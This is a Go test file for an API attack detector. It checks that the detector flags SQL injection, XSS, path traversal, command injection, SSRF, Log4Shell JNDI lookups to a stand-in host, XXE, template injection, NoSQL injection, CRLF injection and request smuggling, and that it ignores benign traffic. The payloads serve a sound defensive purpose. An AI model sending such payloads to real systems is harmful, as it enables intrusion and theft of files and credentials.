package detect

import (
	"log/slog"
	"strings"
	"testing"

	"github.com/apiwarden/apiwarden/apimodel/call"
)

func newDetector(t testing.TB, cfg Config) *Detector {
	t.Helper()
	d, err := New(cfg, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return d
}

func get(pathAndQuery string, headers ...string) *call.Request {
	p, q, _ := strings.Cut(pathAndQuery, "?")
	r := &call.Request{Method: "GET", Path: p, RawQuery: q, Proto: "HTTP/1.1", Headers: call.Headers{{Name: "Host", Value: "api.example.com"}}}
	for i := 0; i+1 < len(headers); i += 2 {
		r.Headers = append(r.Headers, call.Header{Name: headers[i], Value: headers[i+1]})
	}
	return r
}

func post(path, contentType, body string, headers ...string) *call.Request {
	r := get(path, headers...)
	r.Method = "POST"
	r.Headers = append(r.Headers, call.Header{Name: "Content-Type", Value: contentType})
	r.Body = []byte(body)
	r.BodySize = int64(len(body))
	return r
}

func classes(fs []Finding) map[string]bool {
	m := map[string]bool{}
	for _, f := range fs {
		m[f.Class] = true
	}
	return m
}

const jsonCT = "application/json"
const formCT = "application/x-www-form-urlencoded"

func TestInspectDetectsEachClass(t *testing.T) {
	d := newDetector(t, Config{})
	cases := []struct {
		name, class string
		req         *call.Request
		part        string
	}{
		{"sqli query", "sqli", get("/items?id=1%27%20OR%20%271%27%3D%271"), "query:id"},
		{"sqli json union", "sqli", post("/q", jsonCT, `{"filter":{"name":"x' UNION SELECT password FROM users--"}}`), "json:$.filter.name"},
		{"sqli comment obfuscation", "sqli", get("/items?sort=1/**/UNION/**/SELECT/**/1,2"), "query:sort"},
		{"xss query double encoded", "xss", get("/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"), "query:q"},
		{"xss form attribute", "xss", post("/c", formCT, "comment=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), "form:comment"},
		{"xss header", "xss", get("/", "Referer", "https://x.example/<svg/onload=alert(1)>"), "header:Referer"},
		{"traversal path", "traversal", get("/files/..%2f..%2f..%2fetc%2fpasswd"), "path"},
		{"traversal overlong", "traversal", get("/f?name=..%c0%af..%c0%afetc%c0%afpasswd"), "query:name"},
		{"traversal windows", "traversal", post("/f", jsonCT, `{"file":"..\\..\\..\\windows\\win.ini"}`), "json:$.file"},
		{"cmdi separator", "cmdi", get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"), "query:host"},
		{"cmdi substitution", "cmdi", post("/x", jsonCT, `{"name":"$(whoami)"}`), "json:$.name"},
		{"cmdi ifs", "cmdi", get("/x?f=a;cat${IFS}/etc/hostname"), "query:f"},
		{"ssrf decimal", "ssrf", get("/fetch?url=http://2130706433/admin"), "query:url"},
		{"ssrf metadata", "ssrf", post("/hook", jsonCT, `{"url":"http://169.254.169.254/latest/meta-data/"}`), "json:$.url"},
		{"ssrf ipv6", "ssrf", get("/fetch?url=http://[::1]:8080/"), "query:url"},
		{"ssrf octal", "ssrf", get("/fetch?url=http://0177.0.0.1/"), "query:url"},
		{"ssrf gopher", "ssrf", get("/fetch?url=gopher://example.com:6379/_x"), "query:url"},
		{"jndi plain header", "jndi", get("/", "User-Agent", "${jndi:ldap://evil.test/a}"), "header:User-Agent"},
		{"jndi lower", "jndi", get("/", "X-Api-Version", "${${lower:j}ndi:ldap://evil.test/a}"), "header:X-Api-Version"},
		{"jndi default", "jndi", get("/x?q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2Fe%2Fa%7D"), "query:q"},
		{"xxe body", "xxe", post("/import", "application/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), "body"},
		{"ssti jinja", "ssti", post("/greet", jsonCT, `{"name":"{{7*7}}"}`), "json:$.name"},
		{"ssti spring", "ssti", get("/x?t=${T(java.lang.Runtime).getRuntime().exec('id')}"), "query:t"},
		{"nosqli query name", "nosqli", get("/login?user=admin&pass[$ne]=x"), "query-name:pass[$ne]"},
		{"nosqli json key", "nosqli", post("/login", jsonCT, `{"user":"admin","pass":{"$ne":null}}`), "json-key:$.pass.$ne"},
		{"crlf query", "crlf", get("/r?next=%0d%0aSet-Cookie:%20a=b"), "query:next"},
		{"crlf header", "crlf", get("/", "X-Ref", "a%0d%0aX-Admin:%20true"), "header:X-Ref"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			fs := d.Inspect(c.req, "svc")
			var hit *Finding
			for i := range fs {
				if fs[i].Class == c.class {
					hit = &fs[i]
					break
				}
			}
			if hit == nil {
				t.Fatalf("no %s finding; got %+v", c.class, fs)
			}
			if hit.Part != c.part {
				t.Errorf("part = %q, want %q", hit.Part, c.part)
			}
			if hit.Severity < SeverityLow || hit.Confidence <= 0 || hit.Description == "" || hit.RuleID == "" {
				t.Errorf("incomplete finding %+v", hit)
			}
		})
	}
}

func TestInspectSmuggling(t *testing.T) {
	d := newDetector(t, Config{})
	withHeaders := func(proto string, kv ...string) *call.Request {
		r := post("/cart", formCT, "a=1")
		r.Proto = proto
		for i := 0; i+1 < len(kv); i += 2 {
			r.Headers = append(r.Headers, call.Header{Name: kv[i], Value: kv[i+1]})
		}
		return r
	}
	cases := []struct {
		name string
		req  *call.Request
		rule string
	}{
		{"cl te", withHeaders("HTTP/1.1", "Content-Length", "4", "Transfer-Encoding", "chunked"), "smuggling-cl-te"},
		{"cl cl", withHeaders("HTTP/1.1", "Content-Length", "4", "Content-Length", "5"), "smuggling-multiple-cl"},
		{"cl list", withHeaders("HTTP/1.1", "Content-Length", "4, 5"), "smuggling-multiple-cl"},
		{"te padded value", withHeaders("HTTP/1.1", "Transfer-Encoding", " chunked"), "smuggling-te-obfuscated"},
		{"te unknown coding", withHeaders("HTTP/1.1", "Transfer-Encoding", "xchunked"), "smuggling-te-obfuscated"},
		{"te twice", withHeaders("HTTP/1.1", "Transfer-Encoding", "chunked", "Transfer-Encoding", "identity"), "smuggling-te-obfuscated"},
		{"te underscore", withHeaders("HTTP/1.1", "Transfer_Encoding", "chunked"), "smuggling-te-obfuscated"},
		{"te http10", withHeaders("HTTP/1.0", "Transfer-Encoding", "chunked"), "smuggling-te-obfuscated"},
		{"cl plus", withHeaders("HTTP/1.1", "Content-Length", "+5"), "smuggling-cl-invalid"},
		{"oversized", withHeaders("HTTP/1.1", "X-Big", strings.Repeat("a", DefaultMaxHeaderValueBytes+1)), "protocol-header-oversized"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			fs := d.Inspect(c.req, "svc")
			for _, f := range fs {
				if f.RuleID == c.rule {
					return
				}
			}
			t.Fatalf("rule %s did not fire; got %+v", c.rule, fs)
		})
	}
	clean := withHeaders("HTTP/1.1", "Transfer-Encoding", "chunked")
	if fs := d.Inspect(clean, "svc"); len(fs) != 0 {
		t.Errorf("plain chunked request flagged: %+v", fs)
	}
}

// TestInspectBenignAPITraffic holds the false-positive cases the design
// calls out: apostrophes, SQL words in prose, HTML in comments, public
// URLs, base64, unicode, JWTs, e-mail addresses.
func TestInspectBenignAPITraffic(t *testing.T) {
	d := newDetector(t, Config{})
	jwt := "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.POstGetfAytaZS82wHcjoTyoqhMyxXiWdR7Nn7A29DNSl0EiXLdwJ6xC6AfgZWF1bOsS_TuYI3OEzIVDSbXm1o"
	cases := []struct {
		name string
		req  *call.Request
	}{
		{"apostrophe name", post("/users", jsonCT, `{"name":"Seán O'Brien","city":"Dún Laoghaire"}`)},
		{"prose with sql words", get("/search?q=select+the+best+option+from+the+menu")},
		{"prose delete insert", post("/support", jsonCT, `{"msg":"Please delete my old address and insert the new one; thanks!"}`)},
		{"html comment", post("/c", jsonCT, `{"body":"<p>Thanks <b>a lot</b>, see <a href=\"https://example.com/help\">help</a></p>"}`)},
		{"markdown", post("/c", jsonCT, `{"body":"**Bold** and `+"`code`"+` and [docs](https://docs.example.com)\n- item"}`)},
		{"public url", get("/preview?url=https%3A%2F%2Fexample.com%2Fx%3Fa%3D1")},
		{"base64 blob", post("/avatar", jsonCT, `{"data":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}`)},
		{"unicode", post("/settings", jsonCT, `{"display":"山田太郎 🌸","note":"Привет, как дела?"}`)},
		{"jwt header", get("/me", "Authorization", "Bearer "+jwt, "Cookie", "session="+jwt)},
		{"email", get("/customers?email=mary-kate.o%27neil%40example.co.uk")},
		{"form login", post("/login", formCT, "email=a%40example.com&password=P%40ss%27w0rd%3B&remember=on")},
		{"user agent", get("/", "User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36")},
		{"xml without doctype", post("/orders", "application/xml", `<?xml version="1.0"?><order><note>Leave at door &amp; ring</note></order>`)},
		{"handlebars placeholder", post("/tpl", jsonCT, `{"t":"Hello {{ first_name }}, order {{order_id}} shipped"}`)},
		{"multiline text", post("/c", jsonCT, `{"t":"Dear team,\r\nPlease find the invoice attached.\r\nRegards,\r\nAnna"}`)},
		{"dates and prices", get("/orders?created_after=2024-03-01T00:00:00Z&price=%2419.99&discount=50%25")},
		{"relative path param", get("/docs?path=guides/getting-started.md")},
		{"private ip without scheme", post("/fw", jsonCT, `{"allow":["10.0.0.0/8","192.168.1.0/24"]}`)},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if fs := d.Inspect(c.req, "svc"); len(fs) != 0 {
				t.Fatalf("false positive: %+v", fs)
			}
		})
	}
}

func TestExcerptRedactsTokens(t *testing.T) {
	d := newDetector(t, Config{})
	tok := "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJl"
	fs := d.Inspect(get("/x?q=%3Cscript%3Ealert(1)%3C/script%3E+"+tok), "svc")
	if len(fs) == 0 {
		t.Fatal("no finding")
	}
	for _, f := range fs {
		if strings.Contains(f.Excerpt, tok) {
			t.Errorf("excerpt leaks token: %q", f.Excerpt)
		}
		if !strings.Contains(f.Excerpt, "<script>") {
			t.Errorf("excerpt not decoded: %q", f.Excerpt)
		}
	}
	long := strings.Repeat("a", 500)
	fs = d.Inspect(get("/x?q=%3Cscript%3E"+long), "svc")
	if len(fs) == 0 || len(fs[0].Excerpt) > DefaultMaxExcerpt+8 {
		t.Errorf("excerpt not truncated: %d bytes", len(fs[0].Excerpt))
	}
	fs = d.Inspect(post("/login", formCT, "password=x%27%20OR%20%271%27%3D%271secretvalue"), "svc")
	if len(fs) == 0 {
		t.Fatal("no finding in password field")
	}
	for _, f := range fs {
		if f.Excerpt != "[redacted]" {
			t.Errorf("sensitive part excerpt shown: %q", f.Excerpt)
		}
	}
	fs = d.Inspect(get("/r?next=%0d%0aSet-Cookie:%20a=b"), "svc")
	if len(fs) == 0 || strings.ContainsAny(fs[0].Excerpt, "\r\n") {
		t.Errorf("control characters not escaped: %+v", fs)
	}
}

func TestFindingsSortedByConfidence(t *testing.T) {
	d := newDetector(t, Config{})
	fs := d.Inspect(get("/x?a=%3Cscript%3Ealert(1)%3C/script%3E&b=../../etc/passwd"), "svc")
	for i := 1; i < len(fs); i++ {
		if fs[i].Confidence > fs[i-1].Confidence {
			t.Fatalf("findings not sorted: %+v", fs)
		}
	}
}
